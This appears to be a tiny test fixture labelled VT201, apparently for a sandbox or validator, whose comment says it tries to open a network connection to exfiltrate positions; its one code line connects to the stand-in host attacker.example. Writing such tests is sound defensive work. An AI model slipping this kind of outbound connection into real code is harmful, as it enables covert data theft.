# VT201: tries to open a network connection to exfiltrate positions.
import socket

conn = socket.create_connection(("attacker.example", 80))
